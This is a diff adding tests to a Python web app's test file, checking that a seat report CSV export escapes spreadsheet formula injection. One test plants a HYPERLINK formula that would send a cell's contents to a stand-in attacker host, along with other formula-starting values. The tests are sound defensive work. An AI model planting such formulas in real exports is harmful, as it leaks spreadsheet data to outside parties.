@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import itertools
 import threading
 from datetime import UTC, date, datetime, time, timedelta
@@ -17,6 +19,7 @@ from webapp.accounts.models import Role, User
 from webapp.classes import services as class_services
 from webapp.classes.models import Booking, BookingStatus, Modality
 from webapp.clock import oslo_today
+from webapp.csv_files import safe_cell
 from webapp.extensions import db
 from webapp.learners.levels import Level
 from webapp.organisations.models import OrganisationKind
@@ -400,6 +403,38 @@ def test_the_report_page_has_the_chart_and_the_csv_the_rows(
     assert len(lines) == 1 + 12
     assert lines[1] == "Selvstudium med oppfølging;Nordlys;2026-01;3;0;3;9000"
     assert lines[6] == "Selvstudium med oppfølging;Nordlys;2026-06;3;3;0;0"
+
+
+def test_the_seat_report_csv_never_carries_a_formula(
+    client, factory, seller, coordinator, municipality
+):
+    _fill(factory, seller, coordinator, municipality, 1)
+    offering = db.session.scalar(select(Offering))
+    offering.title = '=HYPERLINK("https://evil.example/?"&A1;"Klikk")'
+    offering.provider.name = "@SUM(1+1)"
+    db.session.commit()
+    login_as(client, coordinator)
+    body = client.get("/seats/report.csv?year=2026").get_data(as_text=True)
+    first_row = next(csv.reader(io.StringIO(body.lstrip("\ufeff").splitlines()[1]), delimiter=";"))
+    assert first_row[0] == "'" + offering.title
+    assert first_row[1] == "'@SUM(1+1)"
+
+
+@pytest.mark.parametrize(
+    ("typed", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("  =1+1", "'  =1+1"),
+        ("+47 900 00 000", "'+47 900 00 000"),
+        ("-2", "'-2"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("Olena Kovalenko", "Olena Kovalenko"),
+        ("", ""),
+    ],
+)
+def test_safe_cell(typed, cell):
+    assert safe_cell(typed) == cell
 
 
 def test_the_coordinator_orders_and_assigns_through_the_pages(
